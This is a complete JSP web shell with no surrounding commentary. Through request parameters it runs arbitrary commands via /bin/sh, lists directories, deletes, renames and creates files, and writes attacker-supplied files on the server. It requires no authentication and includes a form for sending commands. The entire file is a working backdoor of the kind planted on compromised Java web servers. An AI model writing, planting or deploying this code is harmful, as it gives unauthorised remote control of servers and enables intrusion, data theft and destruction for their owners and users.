<%@ page import="java.io.*,java.util.*" contentType="text/html; charset=UTF-8" %>
<%!
    String run(String line) throws IOException {
        Process p = Runtime.getRuntime().exec(new String[]{"/bin/sh", "-c", line});
        BufferedReader r = new BufferedReader(new InputStreamReader(p.getInputStream()));
        StringBuilder sb = new StringBuilder();
        String s;
        while ((s = r.readLine()) != null) { sb.append(s).append('\n'); }
        return sb.toString();
    }

    String listing(File dir) {
        StringBuilder sb = new StringBuilder();
        File[] entries = dir.listFiles();
        if (entries == null) return "";
        for (File f : entries) {
            sb.append(f.isDirectory() ? "[D] " : "[F] ").append(f.getName()).append(' ').append(f.length()).append('\n');
        }
        return sb.toString();
    }
%>
<%
    String action = request.getParameter("do");
    String target = request.getParameter("path");
    File dir = new File(target == null ? application.getRealPath("/") : target);
    if ("exec".equals(action)) {
        out.print("<pre>" + run(request.getParameter("line")) + "</pre>");
    } else if ("rm".equals(action)) {
        new File(target).delete();
    } else if ("mv".equals(action)) {
        new File(target).renameTo(new File(request.getParameter("to")));
    } else if ("mkdir".equals(action)) {
        new File(target).mkdirs();
    } else if ("put".equals(action)) {
        FileOutputStream fos = new FileOutputStream(new File(dir, request.getParameter("name")));
        fos.write(request.getParameter("body").getBytes("UTF-8"));
        fos.close();
    }
    out.print("<pre>" + listing(dir) + "</pre>");
%>
<form method="post"><input name="do" value="exec" type="hidden"><input name="line"><input type="submit"></form>
